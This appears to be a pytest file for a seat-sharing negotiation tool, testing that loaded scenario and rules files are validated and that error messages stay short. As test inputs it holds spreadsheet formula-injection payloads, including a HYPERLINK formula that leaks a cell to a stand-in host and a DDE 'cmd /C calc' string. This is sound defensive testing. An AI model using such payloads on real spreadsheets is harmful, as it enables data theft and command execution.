"""Scenario, rules and results files travel between negotiating parties: they are treated as
hostile. Messages quote bad values briefly, and a file with thousands of problems gives a
bounded report."""
import pytest

from explorer.core.dataset_io import load_embedded
from explorer.core.errors import MAX_PROBLEMS, DataError, Problem, quote
from explorer.core.scenario import Scenario

DS = load_embedded()
MB = 1_000_000


def _doc(**changes) -> dict:
    doc = Scenario(DS, name="Deal").to_json()
    doc.update(changes)
    return doc


def test_quote_keeps_short_values_and_cuts_long_ones():
    assert quote("AAP") == "'AAP'"
    assert quote("") == "''"
    assert quote(95) == "95"
    q = quote("x" * MB)
    assert q == "'" + "x" * 80 + "…'" and len(q) == 83
    assert len(quote(list(range(MB)))) <= 80
    assert len(quote({"k" * MB: ["v" * MB]})) <= 80


def test_a_megabyte_value_gives_a_short_message():
    bad = _doc(partners=[{"code": "AAP", "name": "Aam Aadmi Party", "colour": "#" + "F" * MB},
                         {"code": "INC", "name": "Indian National Congress", "colour": "#2AA198"}])
    with pytest.raises(DataError) as e:
        Scenario.from_json(DS, bad, "deal.json")
    text = str(e.value)
    assert text.startswith("deal.json, partners[0].colour: ")
    assert len(text) < 300 and "…" in text


def test_a_megabyte_key_is_clipped_in_the_path():
    bad = _doc(assignments={"p" * MB: [1]})
    with pytest.raises(DataError) as e:
        Scenario.from_json(DS, bad, "deal.json")
    text = e.value.report()
    assert text.startswith("deal.json, assignments.'" + "p" * 40 + "…': not a pool: a code has at most 16 "
                           "characters; this one has 1,000,000: 'ppp") and len(text) < 250
    shown = str(Problem("deal.json", None, "assignments." + "p" * MB, "m" * MB))  # any path, any message
    assert len(shown) < 600 and shown.startswith("deal.json, assignments.ppp")


def test_thousands_of_problems_are_counted_but_only_the_first_200_kept():
    bad = _doc(assignments={"AAP": list(range(1000, 6000))})  # 5,000 unknown seats
    with pytest.raises(DataError) as e:
        Scenario.from_json(DS, bad, "deal.json")
    err = e.value
    assert len(err.problems) == MAX_PROBLEMS == 200 and err.count == 5000
    assert str(err.problems[0]) == "deal.json, assignments.AAP[0]: unknown seat 1000"
    lines = err.report().split("\n")
    assert len(lines) == 201 and lines[-1] == "... and 4800 more"
    assert err.summary(1).endswith("(and 4999 more problems)")


def test_a_data_error_built_from_many_problems_keeps_200():
    err = DataError([Problem("f.csv", n, None, "bad") for n in range(1, 1001)])
    assert len(err.problems) == 200 and err.count == 1000
    assert err.report().split("\n")[-1] == "... and 800 more"


# -- codes, names, colours, ids and notes are checked where they enter -------------------------
HOSTILE_CODE = '=HYPERLINK("http://example.invalid/?leak="&B2,"open")'


def _partners(code="AAP", name="Aam Aadmi Party", colour="#1A5FB4"):
    return [{"code": code, "name": name, "colour": colour},
            {"code": "INC", "name": "Indian National Congress", "colour": "#2AA198"}]


def _rules(**fields):
    rule = {"id": "aap-kalayat", "kind": "must_have", "partner": "AAP", "seats": [16], "severity": "error",
            "source": "news report"}
    rule.update(fields)
    return {"format": "seat-share-explorer/rules", "schema_version": 1, "name": "Talks", "rules": [rule]}


def test_a_formula_as_partner_code_is_refused_on_load_naming_file_and_path(tmp_path):
    import json
    f = tmp_path / "from_the_other_side.json"
    f.write_text(json.dumps(_doc(partners=_partners(code=HOSTILE_CODE))), encoding="utf-8")
    with pytest.raises(DataError) as e:
        Scenario.load(DS, f)
    assert [str(p) for p in e.value.problems] == [
        f"{f}, partners[0].code: a code has at most 16 characters; this one has 53: "
        "'=HYPERLINK(\"http://example.invalid/?leak=\"&B2,\"open\")'"]


@pytest.mark.parametrize("changes,path,message", [
    ({"partners": _partners(code="-AAP")}, "partners[0].code", "starting with a letter or digit; found '-AAP'"),
    ({"partners": _partners(code="AAP<b>")}, "partners[0].code", "found 'AAP<b>'"),
    ({"partners": _partners(code="ABCDEFGHIJKLMNOPQ")}, "partners[0].code", "at most 16 characters; this one has 17"),
    ({"partners": _partners(name="x" * 121)}, "partners[0].name", "at most 120 characters; this one has 121"),
    ({"partners": _partners(name="Aam\tAadmi")}, "partners[0].name", "invisible character U+0009 at position 4"),
    ({"partners": _partners(name="AAP \u202eCNI")}, "partners[0].name", "invisible character U+202E at position 5"),
    ({"partners": _partners(colour="red")}, "partners[0].colour", "expected a colour like #1A5FB4, found 'red'"),
    ({"partners": _partners(colour="#1A5FB4;x")}, "partners[0].colour", "found '#1A5FB4;x'"),
    ({"name": "+" * 121}, "name", "at most 120 characters"),
    ({"notes": "n" * 10_001}, "notes", "a note has at most 10,000 characters; this one has 10,001"),
    ({"notes": "a\x00b"}, "notes", "invisible character U+0000 at position 2"),
    ({"assignments": {"=1+1": [1]}}, "assignments.=1+1", "not a pool: a code is letters"),
    ({"assumptions": {"swing": {"@SUM(A1)": 2}}}, "assumptions.swing.@SUM(A1)", "not a party"),
    ({"assumptions": {"transfer": {"AAP>=INC": 0.5}}}, "assumptions.transfer.AAP>=INC", "found '=INC'"),
    ({"rules": _rules(id="=cmd|' /C calc'!A0")}, "rules.rules[0].id", "a rule id is letters"),
    ({"rules": _rules(partner="@AAP")}, "rules.rules[0].partner", "found '@AAP'"),
    ({"rules": _rules(source="s" * 10_001)}, "rules.rules[0].source", "at most 10,000 characters"),
])
def test_bad_values_are_refused_with_their_json_path(changes, path, message):
    with pytest.raises(DataError) as e:
        Scenario.from_json(DS, _doc(**changes), "deal.json")
    text = str(e.value)
    assert text.startswith(f"deal.json, {path}: ") and message in text, text
    assert len(text) < 300


def test_a_rules_file_is_checked_too(tmp_path):
    import json
    from explorer.core.rules import load_rules_file
    sc = Scenario(DS)
    f = tmp_path / "rules.json"
    f.write_text(json.dumps(_rules(id="x" * 41, faction="y" * 200, kind="faction_claim")), encoding="utf-8")
    with pytest.raises(DataError) as e:
        load_rules_file(f, DS.seats, sc.pools)
    assert [str(p).split(":")[0] for p in e.value.problems] == [f"{f}, rules[0].id", f"{f}, rules[0].faction"]
    assert "a rule id has at most 40 characters; this one has 41" in str(e.value.problems[0])


def test_good_codes_names_and_notes_are_accepted():
    partners = [{"code": "CPI(M)", "name": "Communist Party of India (Marxist)", "colour": "#cc0000"},
                {"code": "Ind. Front & Co", "name": "आम आदमी पार्टी" + "x" * 106, "colour": "#00AA00"}]
    notes = "Line one\n\tindented\r\nline three " + "n" * 9_969
    sc = Scenario.from_json(DS, _doc(partners=partners, notes=notes, name="n" * 120,
                                     assignments={"CPI(M)": [1], "Ind. Front & Co": [2]}), "deal.json")
    assert [p.code for p in sc.pools.partners] == ["CPI(M)", "Ind. Front & Co"]
    assert len(sc.pools.partners[1].name) == 120 and len(sc.notes) == 10_000
    assert sc.pool_of(1) == "CPI(M)" and sc.pool_of(2) == "Ind. Front & Co"


def test_check_code_for_other_loaders():
    from explorer.core.validate import check_code, check_name
    assert check_code("JMM", "results.csv", 3, "party") == "JMM"
    assert check_name("Jharkhand Mukti Morcha", "results.csv", 3, "party") == "Jharkhand Mukti Morcha"
    with pytest.raises(DataError) as e:
        check_code("Jharkhand Mukti Morcha", "results.csv", 3, "party")
    assert str(e.value) == ("results.csv, line 3, party: a code has at most 16 characters; this one has 22: "
                            "'Jharkhand Mukti Morcha'")
    with pytest.raises(DataError, match=r"results.csv, line 9, party: a code is letters"):
        check_code("+BJP", "results.csv", 9, "party")


def test_the_window_keeps_names_ids_and_notes_within_what_it_can_load_again(qtbot, tmp_path):
    from explorer.core.rules import MustHave
    from explorer.gui.rules_editor import RuleDialog
    from .helpers import congress_everywhere, open_window
    w = open_window(qtbot, congress_everywhere("n" * 120))
    errors = []
    w.files.show_error = lambda title, e: errors.append((title, str(e)))
    w.files.rename(None, "r" * 121)
    assert w.doc.scenario.name == "n" * 120
    assert errors == [("Cannot rename", "a name has at most 120 characters; this one has 121: '" + "r" * 80 + "…'")]
    w.files.duplicate()
    copy = w.workspace.active.scenario
    assert copy.name == "n" * 115 and len(w.workspace.docs) == 2
    copy.save(tmp_path / "copy.json")
    assert Scenario.load(DS, tmp_path / "copy.json").name == "n" * 115  # what the window saves loads again
    dlg = RuleDialog(w.doc, MustHave(id="=1+1", partner="INC", seats=(36,)))
    qtbot.addWidget(dlg)
    assert dlg.build().startswith("Id: a rule id is letters, digits")
    dlg.id_edit.setText("inc-jind")
    dlg.source.setPlainText("s" * 10_001)
    assert dlg.build().startswith("Source: a note has at most 10,000 characters; this one has 10,001")
    dlg.source.setPlainText("Reported")
    assert dlg.build() == MustHave(id="inc-jind", partner="INC", seats=(36,), source="Reported")
